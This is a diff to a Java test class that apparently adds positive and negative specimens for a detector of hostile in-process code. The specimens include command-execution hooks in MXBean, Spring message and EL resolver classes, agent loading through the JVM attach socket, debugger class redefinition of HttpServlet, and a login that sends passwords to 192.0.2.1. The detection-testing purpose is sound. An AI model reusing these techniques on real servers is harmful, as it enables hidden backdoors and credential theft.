@@ -34,6 +34,19 @@ class JobsAndLoginsTest {
                     + " return b; } }";
     private static final String PROVIDER = "org/springframework/security/authentication/dao/DaoAuthenticationProvider";
     private static final String SENDS = "new java.net.URL(\\\"http://192.0.2.1/\\\" + $1).openStream();";
+    private static final String PIECES =
+            "class X { static void put(javassist.CtMethod m) { StringBuilder s = new StringBuilder(\"String c = $1.get\");"
+                    + " s.append(\"Parameter(null);\"); s.append(\"%s\"); m.insertBefore(s.toString()); } static void"
+                    + " agentmain(String a, java.lang.instrument.Instrumentation i) { } }";
+    private static final String BY_HAND =
+            "class X { static String server = \"%s\"; static void go(String pid, String jar)"
+                    + " throws IOException { try (java.nio.channels.SocketChannel c = java.nio.channels.SocketChannel.open("
+                    + "java.net.UnixDomainSocketAddress.of(\"/tmp/.java_pid\" + pid))) { c.write(java.nio.ByteBuffer.wrap("
+                    + "(\"1 load instrument \" + jar).getBytes())); } } }";
+    private static final String DEBUGGER =
+            "class X { static void go(com.sun.jdi.VirtualMachine v, String t) { Map<com.sun.jdi.ReferenceType, byte[]> m ="
+                    + " new HashMap<>(); m.put(v.classesByName(\"%s\").get(0), Base64.getDecoder().decode(t));"
+                    + " v.redefineClasses(m); } }";
     private static final String STAGE =
             "class X { public static void agentmain(String a, java.lang.instrument.Instrumentation"
                     + " i) throws Exception { new java.net.URLClassLoader(new java.net.URL[] { %s }).loadClass(\"M\")"
@@ -68,6 +81,24 @@ class JobsAndLoginsTest {
                         "what comes with a call",
                         "class D { Object go() throws Exception { return @{script}("
                                 + "org.apache.dubbo.rpc.RpcContext.getServerAttachment().getAttachment(\"e\")); } }"),
+                specimen(
+                        "a thing that says it may be managed",
+                        "class M implements X { public void run(String a) { try { @{exec}(a); } catch (IOException e) { } } }"
+                                + " @javax.management.MXBean interface X { void run(String a); }"),
+                specimen(
+                        "a message of a stream",
+                        "class F implements java.util.function.Function<org.springframework.messaging.Message<String>, String> {"
+                                + " public String apply(org.springframework.messaging.Message<String> m) { try {"
+                                + " @{exec}(m.getPayload()); } catch (IOException e) { } return \"\"; } }"),
+                specimen(
+                        "a name in an expression",
+                        "class E extends jakarta.el.ELResolver { public Object getValue(Object c, Object b, Object p) { try {"
+                                + " return @{exec}(p.toString()); } catch (IOException e) { return null; } } }"),
+                specimen("source text in pieces", PIECES.formatted("@{exec}(c);")),
+                specimen("an agent sent by hand", BY_HAND.formatted("org.apache.catalina.startup.Bootstrap")),
+                specimen(
+                        "a class of the container replaced by a debugger",
+                        DEBUGGER.formatted("javax.servlet.http.HttpServlet")),
                 specimen("a name that a hook looks up", PREDICATE.formatted("e.getQueryString()")),
                 specimen("a job that is registered as the class is loaded", HANDLER.formatted("static")),
                 specimen("a login whose password is sent away", LOGIN.formatted(PROVIDER, SENDS)),
@@ -80,6 +111,13 @@ class JobsAndLoginsTest {
                 specimen("a job that is registered when it is asked for", HANDLER.formatted("void start()")),
                 specimen("a message that names a constant", COMMANDS.formatted("Task.valueOf(m).c")),
                 specimen("a fixed program with a number", JOB.formatted("@{exec}(new String[] {\"/opt/p\", s})")),
+                specimen(
+                        "a thing that may not be managed",
+                        "class M implements X { public void run(String a) { try { @{exec}(a); } catch (IOException e) { } } }"
+                                + " interface X { void run(String a); }"),
+                specimen("source text in pieces that measures", PIECES.formatted("System.nanoTime();")),
+                specimen("an agent sent by hand to whom a person names", BY_HAND.formatted("1234")),
+                specimen("a class of its own replaced by a debugger", DEBUGGER.formatted("com.example.Shop")),
                 specimen("a class of its own that sends", LOGIN.formatted("com/example/Shop", SENDS)),
                 specimen("a class of its own taken apart by hand", BYTES.formatted("com/example/Shop")));
     }
